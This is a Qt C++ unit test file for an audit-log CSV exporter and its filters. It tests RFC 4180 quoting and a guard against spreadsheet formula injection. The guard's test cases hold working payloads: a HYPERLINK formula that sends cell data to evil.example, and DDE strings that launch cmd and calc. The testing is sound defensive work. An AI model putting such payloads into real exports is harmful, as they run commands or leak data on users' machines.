// audit.csv (models/AuditCsv) and the export filters (models/AuditFilter): rows of real record
// lines (formatAuditLine), byte for byte; RFC 4180 quoting read back by an independent parser;
// OWASP's formula-injection guard on every column; which records a filter keeps.
#include "models/AuditCsv.h"
#include "models/AuditFilter.h"
#include "models/AuditRecord.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QtTest>

using namespace Breaker;

namespace {

constexpr qint64 kT0 = 1785230000000; // 2026-07-28T09:13:20.000Z

AuditEntry layerEntry()
{
    AuditEntry e;
    e.actor = {QStringLiteral("operator"),
               QStringLiteral("dana (os: dkim)"),
               QStringLiteral("ops-laptop-3")};
    e.action = QStringLiteral("stop.layer");
    e.target.agent = QStringLiteral("billing-agent");
    e.target.layer = QStringLiteral("payment");
    e.target.provider = QStringLiteral("stripe-issuing");
    e.target.object = QStringLiteral("cards ic_1PqA, ic_2RzB");
    e.reason = QStringLiteral("refund loop");
    e.outcome = QStringLiteral("verified");
    e.detail = QJsonObject{
        {QStringLiteral("action"), QStringLiteral("freeze")},
        {QStringLiteral("detail"), QStringLiteral("2 cards \"inactive\" (read back)")},
        {QStringLiteral("ms"), 412}};
    return e;
}

QJsonObject record(qint64 seq, const AuditEntry &e, const QByteArray &prev = zeroHash())
{
    return QJsonDocument::fromJson(formatAuditLine(seq, kT0 + seq, e, prev)).object();
}

// An RFC 4180 reader, independent of the writer: records of fields, CRLF between records.
QList<QStringList> readCsv(const QByteArray &bytes, QString *problem)
{
    QList<QStringList> rows;
    QStringList row;
    QByteArray field;
    bool quoted = false, wasQuoted = false;
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        const char c = bytes.at(i);
        if (quoted) {
            if (c == '"' && i + 1 < bytes.size() && bytes.at(i + 1) == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            if (!field.isEmpty() || wasQuoted) {
                *problem = QStringLiteral("quote inside an unquoted field at byte %1").arg(i);
                return {};
            }
            quoted = wasQuoted = true;
        } else if (c == ',') {
            row << QString::fromUtf8(field);
            field.clear();
            wasQuoted = false;
        } else if (c == '\r' && i + 1 < bytes.size() && bytes.at(i + 1) == '\n') {
            row << QString::fromUtf8(field);
            rows << row;
            row.clear();
            field.clear();
            wasQuoted = false;
            ++i;
        } else if (c == '\r' || c == '\n') {
            *problem = QStringLiteral("bare CR or LF outside quotes at byte %1").arg(i);
            return {};
        } else {
            field += c;
        }
    }
    if (quoted || !field.isEmpty() || !row.isEmpty())
        *problem = QStringLiteral("the last record does not end with CRLF");
    return rows;
}

} // namespace

class tst_AuditCsv : public QObject
{
    Q_OBJECT

private slots:
    void header();
    void realRowByteForByte();
    void nullsAreEmptyCells();
    void cell_data();
    void cell();
    void injectionInEveryColumn_data();
    void injectionInEveryColumn();
    void fileReadsBack();
    void filter_data();
    void filter();
};

void tst_AuditCsv::header()
{
    QCOMPARE(auditCsvHeader(),
             QByteArray("seq,ts,actor_kind,actor_id,actor_host,action,agent,run,principal,"
                        "layer,provider,object,reason,outcome,detail,prev\r\n"));
    QString problem;
    const auto rows = readCsv(auditCsvHeader(), &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(rows.size(), 1);
    QCOMPARE(rows.first().size(), 16);
}

void tst_AuditCsv::realRowByteForByte()
{
    const QByteArray prev = sha256Hex("the previous line");
    QCOMPARE(
        auditCsvRow(record(42, layerEntry(), prev)),
        QByteArray("42,2026-07-28T09:13:20.042Z,operator,dana (os: dkim),ops-laptop-3,stop.layer,"
                   "billing-agent,,,payment,stripe-issuing,\"cards ic_1PqA, ic_2RzB\",refund "
                   "loop,verified,"
                   "\"{\"\"action\"\":\"\"freeze\"\",\"\"detail\"\":\"\"2 cards "
                   "\\\"\"inactive\\\"\" (read back)\"\","
                   "\"\"ms\"\":412}\","
                   + prev + "\r\n"));
}

void tst_AuditCsv::nullsAreEmptyCells()
{
    AuditEntry e; // everything unknown: formatAuditLine writes null
    QCOMPARE(auditCsvRow(record(1, e)),
             QByteArray("1,2026-07-28T09:13:20.001Z,,,,,,,,,,,,,{}," + zeroHash() + "\r\n"));
}

void tst_AuditCsv::cell_data()
{
    QTest::addColumn<QString>("reason");
    QTest::addColumn<QByteArray>("cell");

    QTest::newRow("plain") << QStringLiteral("refund loop") << QByteArray("refund loop");
    QTest::newRow("comma") << QStringLiteral("loop, twice") << QByteArray("\"loop, twice\"");
    QTest::newRow("quote") << QStringLiteral("agent said \"done\"")
                           << QByteArray("\"agent said \"\"done\"\"\"");
    QTest::newRow("only a quote") << QStringLiteral("\"") << QByteArray("\"\"\"\"");
    QTest::newRow("LF") << QStringLiteral("line one\nline two")
                        << QByteArray("\"line one\nline two\"");
    QTest::newRow("CRLF") << QStringLiteral("line one\r\nline two")
                          << QByteArray("\"line one\r\nline two\"");
    QTest::newRow("UTF-8") << QStringLiteral("Überweisung gestoppt ✋")
                           << QString::fromUtf8("Überweisung gestoppt ✋").toUtf8();
    QTest::newRow("equals inside") << QStringLiteral("a=b") << QByteArray("a=b");
    QTest::newRow("apostrophe already") << QStringLiteral("'quoted") << QByteArray("'quoted");
    // OWASP CSV injection: = + - @ tab CR at the start get an apostrophe.
    QTest::newRow("=") << QStringLiteral("=1+1") << QByteArray("'=1+1");
    QTest::newRow("+") << QStringLiteral("+1 555 0100") << QByteArray("'+1 555 0100");
    QTest::newRow("-") << QStringLiteral("-2 cards") << QByteArray("'-2 cards");
    QTest::newRow("@") << QStringLiteral("@SUM(A1:A9)") << QByteArray("'@SUM(A1:A9)");
    QTest::newRow("tab") << QStringLiteral("\t=cmd") << QByteArray("'\t=cmd");
    QTest::newRow("CR, then quoted") << QStringLiteral("\r=cmd") << QByteArray("\"'\r=cmd\"");
    QTest::newRow("HYPERLINK, quoted too")
        << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")
        << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
    QTest::newRow("DDE") << QStringLiteral("=cmd|' /C calc'!A0")
                         << QByteArray("'=cmd|' /C calc'!A0");
}

void tst_AuditCsv::cell()
{
    QFETCH(QString, reason);
    QFETCH(QByteArray, cell);

    // The row around the reason column is that of the same record with a neutral reason.
    AuditEntry e = layerEntry();
    e.reason = QStringLiteral("REASON");
    const QByteArray around = auditCsvRow(record(7, e));
    const qsizetype at = around.indexOf(",REASON,");
    QVERIFY(at > 0);
    e.reason = reason;
    const QByteArray row = auditCsvRow(record(7, e));
    QCOMPARE(row, around.left(at + 1) + cell + around.mid(at + 7));

    // A reader gets the value back, with the apostrophe where one was added.
    QString problem;
    const auto rows = readCsv(row, &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(rows.size(), 1);
    QCOMPARE(rows.first().size(), 16);
    const bool formula = !reason.isEmpty() && QStringLiteral("=+-@\t\r").contains(reason.front());
    QCOMPARE(rows.first().at(12), formula ? QLatin1Char('\'') + reason : reason);
}

void tst_AuditCsv::injectionInEveryColumn_data()
{
    QTest::addColumn<int>("column");
    QTest::addColumn<QString>("value");
    const char *const names[] = {"actor_id",
                                 "actor_host",
                                 "action",
                                 "agent",
                                 "run",
                                 "principal",
                                 "layer",
                                 "provider",
                                 "object",
                                 "reason",
                                 "outcome"};
    const int columns[] = {3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13};
    for (size_t i = 0; i < std::size(columns); ++i)
        QTest::newRow(names[i]) << columns[i] << QStringLiteral("=2+5+cmd|' /C calc'!A0");
    QTest::newRow("actor_kind") << 2 << QStringLiteral("@evil");
}

void tst_AuditCsv::injectionInEveryColumn()
{
    QFETCH(int, column);
    QFETCH(QString, value);

    AuditEntry e = layerEntry();
    QString *fields[] = {nullptr,
                         nullptr,
                         &e.actor.kind,
                         &e.actor.id,
                         &e.actor.host,
                         &e.action,
                         &e.target.agent,
                         &e.target.run,
                         &e.target.principal,
                         &e.target.layer,
                         &e.target.provider,
                         &e.target.object,
                         &e.reason,
                         &e.outcome};
    *fields[column] = value;
    QString problem;
    const auto rows = readCsv(auditCsvRow(record(9, e)), &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(rows.first().at(column), QLatin1Char('\'') + value);
    // No cell of the row starts a formula.
    for (const QString &cell : rows.first())
        QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
                 qPrintable(cell));
}

void tst_AuditCsv::fileReadsBack()
{
    // Multi-line and quoted cells do not break the file into extra records.
    QByteArray file = auditCsvHeader();
    QList<QJsonObject> records;
    QByteArray prev = zeroHash();
    for (int i = 1; i <= 5; ++i) {
        AuditEntry e = layerEntry();
        e.reason = QStringLiteral("line %1\r\nsecond, \"quoted\" line").arg(i);
        const QByteArray line = formatAuditLine(i, kT0 + i, e, prev);
        prev = sha256Hex(line);
        records << QJsonDocument::fromJson(line).object();
        file += auditCsvRow(records.last());
    }
    QString problem;
    const auto rows = readCsv(file, &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QCOMPARE(rows.size(), 6);
    for (int i = 1; i <= 5; ++i) {
        const QJsonObject &r = records.at(i - 1);
        QCOMPARE(rows.at(i).size(), 16);
        QCOMPARE(rows.at(i).at(0), QString::number(i));
        QCOMPARE(rows.at(i).at(12), r.value(QLatin1String("reason")).toString());
        QCOMPARE(rows.at(i).at(15), r.value(QLatin1String("prev")).toString());
        QCOMPARE(QJsonDocument::fromJson(rows.at(i).at(14).toUtf8()).object(),
                 r.value(QLatin1String("detail")).toObject());
    }
}

void tst_AuditCsv::filter_data()
{
    QTest::addColumn<QString>("agent");
    QTest::addColumn<QString>("run");
    QTest::addColumn<QString>("principal");
    QTest::addColumn<QString>("action");
    QTest::addColumn<QString>("recordAction");
    QTest::addColumn<bool>("matches");

    // The record: stop.layer (or recordAction) of billing-agent, run run-7, principal alice.
    const QString layer = QStringLiteral("stop.layer");
    QTest::newRow("empty filter") << QString() << QString() << QString() << QString() << layer
                                  << true;
    QTest::newRow("agent") << QStringLiteral("billing-agent") << QString() << QString() << QString()
                           << layer << true;
    QTest::newRow("other agent") << QStringLiteral("billing") << QString() << QString() << QString()
                                 << layer << false;
    QTest::newRow("agent case") << QStringLiteral("Billing-Agent") << QString() << QString()
                                << QString() << layer << false;
    QTest::newRow("run") << QString() << QStringLiteral("run-7") << QString() << QString() << layer
                         << true;
    QTest::newRow("other run") << QString() << QStringLiteral("run-8") << QString() << QString()
                               << layer << false;
    QTest::newRow("principal") << QString() << QString() << QStringLiteral("alice@example.com")
                               << QString() << layer << true;
    QTest::newRow("other principal") << QString() << QString() << QStringLiteral("bob@example.com")
                                     << QString() << layer << false;
    QTest::newRow("action exact") << QString() << QString() << QString()
                                  << QStringLiteral("stop.layer") << layer << true;
    QTest::newRow("action prefix")
        << QString() << QString() << QString() << QStringLiteral("stop") << layer << true;
    QTest::newRow("action prefix, trailing dot")
        << QString() << QString() << QString() << QStringLiteral("stop.") << layer << true;
    QTest::newRow("prefix is whole segments")
        << QString() << QString() << QString() << QStringLiteral("sto") << layer << false;
    QTest::newRow("not a word prefix")
        << QString() << QString() << QString() << QStringLiteral("stop")
        << QStringLiteral("stopped.layer") << false;
    QTest::newRow("other family") << QString() << QString() << QString() << QStringLiteral("stop")
                                  << QStringLiteral("resume.layer") << false;
    QTest::newRow("longer than action")
        << QString() << QString() << QString() << QStringLiteral("stop.layer.x") << layer << false;
    QTest::newRow("all fields") << QStringLiteral("billing-agent") << QStringLiteral("run-7")
                                << QStringLiteral("alice@example.com") << QStringLiteral("stop")
                                << layer << true;
    QTest::newRow("all but one") << QStringLiteral("billing-agent") << QStringLiteral("run-7")
                                 << QStringLiteral("alice@example.com")
                                 << QStringLiteral("approval") << layer << false;
}

void tst_AuditCsv::filter()
{
    QFETCH(QString, agent);
    QFETCH(QString, run);
    QFETCH(QString, principal);
    QFETCH(QString, action);
    QFETCH(QString, recordAction);
    QFETCH(bool, matches);

    AuditEntry e = layerEntry();
    e.action = recordAction;
    e.target.run = QStringLiteral("run-7");
    e.target.principal = QStringLiteral("alice@example.com");
    const AuditFilter f{agent, run, principal, action};
    QCOMPARE(f.isEmpty(),
             agent.isEmpty() && run.isEmpty() && principal.isEmpty() && action.isEmpty());
    QCOMPARE(f.matches(record(3, e)), matches);

    // A record that leaves the filtered field unknown (null) never matches a set filter.
    AuditEntry bare;
    bare.action = recordAction;
    if (!agent.isEmpty() || !run.isEmpty() || !principal.isEmpty())
        QVERIFY(!f.matches(record(4, bare)));
}

QTEST_GUILESS_MAIN(tst_AuditCsv)
#include "tst_auditcsv.moc"
